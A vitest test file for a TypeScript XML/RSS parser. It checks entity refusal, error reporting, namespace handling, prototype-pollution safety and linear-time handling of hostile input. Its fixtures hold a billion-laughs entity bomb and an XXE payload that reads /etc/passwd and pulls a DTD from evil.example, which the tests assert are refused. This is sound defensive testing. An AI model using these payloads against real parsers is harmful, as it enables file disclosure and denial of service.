import { describe, expect, it } from 'vitest';
import { asArray, attrOf, parseXml, readRootElement, textOf, type XmlElement, type XmlOutcome } from './xml.ts';

function rootOf(outcome: XmlOutcome): XmlElement {
  if (outcome.kind !== 'ok') throw new Error(outcome.error);
  return outcome.doc.root as XmlElement;
}

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss><channel><title>&lol9;</title><description a="&lol;">&lol;</description></channel></rss>`;

const XXE = `<?xml version="1.0"?>
<!DOCTYPE rss [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> <!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p; ]>
<rss><channel><title>&xxe;</title></channel></rss>`;

describe('parseXml: entities are never expanded from a DTD', () => {
  it('refuses a billion-laughs document without expanding anything', () => {
    expect(parseXml(BILLION_LAUGHS)).toEqual({ kind: 'failed', error: 'entity declarations (<!ENTITY>) are refused: entities are never expanded' });
  });

  it('refuses an external entity (XXE) without reading it', () => {
    const outcome = parseXml(XXE);
    expect(JSON.stringify(outcome)).not.toMatch(/root:|daemon|nologin/);
    expect(outcome).toEqual({ kind: 'failed', error: 'entity declarations (<!ENTITY>) are refused: entities are never expanded' });
  });

  it('skips a DOCTYPE without entities and reports errors with their line', () => {
    const outcome = parseXml('<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"\n "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n<rss>\n<item a="1>\n</rss>');
    expect(outcome).toEqual({ kind: 'failed', error: 'malformed XML at line 4: start tag <item> is not closed' });
  });

  it('never reads a DOCTYPE that appears after the root starts', () => {
    const root = rootOf(parseXml('<r><!DOCTYPE x [<!ENTITY e "boom">]><t>&e;</t></r>'));
    expect(root['t']).toBe('&e;');
  });

  it('decodes the XML entities, character references and HTML named entities', () => {
    const root = rootOf(parseXml('<r><t>&lt;&gt;&amp;&quot;&apos; &#233;&#xE9; &eacute;&nbsp;&hellip; &unknown;</t></r>'));
    expect(textOf(root['t'])).toBe('<>&"\' éé é\u00a0… &unknown;');
  });

  it('leaves CDATA alone', () => {
    expect(textOf(rootOf(parseXml('<r><t><![CDATA[&amp; <b>]]></t></r>'))['t'])).toBe('&amp; <b>');
  });
});

describe('parseXml: shape', () => {
  it('keeps namespaced names and attributes, strings only', () => {
    const root = rootOf(parseXml('<rss xmlns:dc="http://purl.org/dc/elements/1.1/"><item><dc:creator>A</dc:creator><media:content url="u" width="10"/><n>007</n></item></rss>'));
    const item = root['item'] as XmlElement;
    expect(item['dc:creator']).toBe('A');
    expect(attrOf(item['media:content'], 'width')).toBe('10');
    expect(item['n']).toBe('007');
  });

  it('renames prefixes bound to known namespaces, and undeclared ones on request', () => {
    const options = { namespaces: { 'urn:dc': 'dc' }, undeclaredPrefixes: { rss: '' } };
    const root = rootOf(parseXml('<rss xmlns:d="urn:dc"><rss:item><d:creator>A</d:creator></rss:item></rss>', options));
    expect((root['item'] as XmlElement)['dc:creator']).toBe('A');
  });

  it('keeps raw-content elements as inner markup, nested same-name elements included', () => {
    const rawContent = (name: string, element: XmlElement): boolean => name === 'content' && element['@type'] === 'xhtml';
    const root = rootOf(parseXml('<e><content type="xhtml"><div>a <b>b</b> &amp; <content>c</content></div></content><n>1</n></e>', { rawContent }));
    expect(textOf(root['content'])).toBe('<div>a <b>b</b> &amp; <content>c</content></div>');
    expect(root['n']).toBe('1');
  });

  it('closes unclosed inner elements at their parent\'s end tag, ignores stray end tags', () => {
    const root = rootOf(parseXml('<rss><item><title>One</title><image><url>u</url></item></b><item><title>Two</title></item></rss>'));
    expect(root['item']).toEqual([{ title: 'One', image: { url: 'u' } }, { title: 'Two' }]);
  });

  it('accepts unquoted attributes and a stray < or & in text', () => {
    const root = rootOf(parseXml('<rss v=2.0><t>a < b & c</t></rss>'));
    expect(root).toEqual({ '@v': '2.0', t: 'a < b & c' });
  });

  it('does not let element names reach Object.prototype', () => {
    const root = rootOf(parseXml('<r><__proto__><x>1</x></__proto__><toString>q</toString><toString>r</toString></r>'));
    expect(Object.getPrototypeOf(root)).toBe(Object.prototype);
    expect(root['toString']).toEqual(['q', 'r']);
    expect(root['#__proto__']).toEqual({ x: '1' });
  });

  it('normalizes CRLF line ends', () => {
    expect(rootOf(parseXml('<r><t>a\r\nb\rc</t></r>'))['t']).toBe('a\nb\nc');
  });

  it('reports unterminated comments, CDATA and tags with their line', () => {
    expect(parseXml('<r>\n<!-- x\n</r>')).toEqual({ kind: 'failed', error: 'malformed XML at line 2: comment is not closed' });
    expect(parseXml('<r>\n\n<t><![CDATA[x</t></r>')).toEqual({ kind: 'failed', error: 'malformed XML at line 3: CDATA section is not closed' });
  });

  it('tolerates whitespace before the XML declaration', () => {
    expect(parseXml('\n\n  <?xml version="1.0"?><r><a>1</a></r>').kind).toBe('ok');
  });

  it('reports truncation and non-XML', () => {
    expect(parseXml('<rss><channel><item><title>x</title></item>')).toEqual({ kind: 'failed', error: 'truncated XML (root element <rss> is never closed)' });
    expect(parseXml('just text')).toEqual({ kind: 'failed', error: 'not XML (no root element)' });
  });
});

describe('parseXml: hostile input stays linear', () => {
  // Quadratic scanning here once took seconds for a 100k-deep raw element; linear takes milliseconds.
  it('handles 200k nested raw-content elements without close', { timeout: 5000 }, () => {
    const rawContent = (name: string): boolean => name === 'content';
    const text = `<e><content>${'<content>'.repeat(200_000)}${'</content>'.repeat(100_000)}</e>`;
    expect(parseXml(text, { rawContent })).toEqual({ kind: 'failed', error: 'malformed XML at line 1: <content> is never closed' });
  });

  it('handles 300k unclosed start tags and stray end tags', { timeout: 5000 }, () => {
    expect(parseXml(`<r>${'<a'.repeat(300_000)}`).kind).toBe('failed');
    expect(parseXml(`<r>${'</x>'.repeat(300_000)}</r>`)).toEqual({ kind: 'ok', doc: { rootName: 'r', root: '' } });
  });
});

describe('helpers', () => {
  it('asArray / textOf / readRootElement', () => {
    expect(asArray(undefined)).toEqual([]);
    expect(asArray('a')).toEqual(['a']);
    expect(textOf({ '#text': 'x', '@a': '1' })).toBe('x');
    expect(textOf({ b: 'x', i: ['y', 'z'] })).toBe('xyz');
    const text = '<?xml version="1.0"?><!-- c --><!DOCTYPE x [<!ENTITY a ">">]><feed xmlns="urn:a" a=\'1\'>';
    expect(readRootElement(text)).toEqual({ name: 'feed', attributes: { xmlns: 'urn:a', a: '1' }, start: text.indexOf('<feed') });
  });
});
